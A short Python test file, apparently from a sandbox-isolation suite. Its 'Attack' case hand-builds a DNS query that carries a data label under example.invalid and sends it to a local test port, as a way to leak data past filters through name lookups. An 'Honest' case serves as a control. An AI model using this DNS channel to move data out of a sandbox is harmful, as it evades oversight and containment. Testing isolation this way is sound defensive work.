"""Goal: send what was learnt out by the question for a name.

Questions pass through many a filter that stops all else.
"""

import contextlib
import socket
import struct

from kit import Chance, facts, trial

WITHOUT_ISOLATION = "a server of names"


class Attack(Chance):
    def __init__(self):
        name = b"".join(bytes([len(part)]) + part for part in (b"label17is3", b"example", b"invalid")) + b"\0"
        question = struct.pack(">6H", 1, 0x0100, 1, 0, 0, 0) + name + struct.pack(">2H", 1, 1)
        with trial("ask a server of names"):
            socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(question, ("127.0.0.1", facts.udp))
        with contextlib.suppress(OSError):
            socket.getaddrinfo("localhost.example.invalid", 80)


class Honest(Chance):
    """Turns an address into bytes, for which no server is asked."""

    def __init__(self):
        assert socket.inet_aton("127.0.0.1")
